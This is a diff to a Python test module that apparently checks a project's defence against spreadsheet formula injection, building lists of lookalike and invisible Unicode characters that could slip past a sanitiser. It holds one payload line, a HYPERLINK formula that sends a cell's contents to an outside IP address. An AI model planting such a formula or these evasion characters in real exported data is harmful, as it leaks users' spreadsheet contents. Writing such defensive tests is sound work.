@@ -15,17 +15,23 @@ from gateway_project.core import cells
 from gateway_project.tests.served import ROOT
 
 FORMULA = '=HYPERLINK("https://198.41.0.4/?"&A1)'
-# Each character that some form of Unicode makes one of these, or that is a sign by its name.
-ALIKE = [
+# No letters of alphabets without case, and nothing that is not assigned: a million of code points.
+ASSIGNED = [
     chr(code)
     for code in range(sys.maxunicode + 1)
-    if unicodedata.normalize("NFKC", chr(code)).lstrip()[:1] in set("=+-@")
+    if unicodedata.category(chr(code)) not in ("Lo", "Cn", "Co", "Cs")
+]
+# Each character that some form of Unicode makes one of these, or that is a sign by its name.
+ALIKE = [
+    char
+    for char in ASSIGNED
+    if unicodedata.normalize("NFKC", char).lstrip()[:1] in set("=+-@")
     or (
         any(
-            word in unicodedata.name(chr(code), "").split()
+            word in unicodedata.name(char, "").split()
             for word in ("MINUS", "PLUS-MINUS", "MINUS-OR-PLUS", "DASH")
         )
-        and unicodedata.category(chr(code)) in ("Sm", "Pd")
+        and unicodedata.category(char) in ("Sm", "Pd")
     )
 ]
 UNSEEN = ["", *" \u00a0\u3000\ufeff\u200b\u2060\u00ad\u202e\x00\x1f\u0301"]
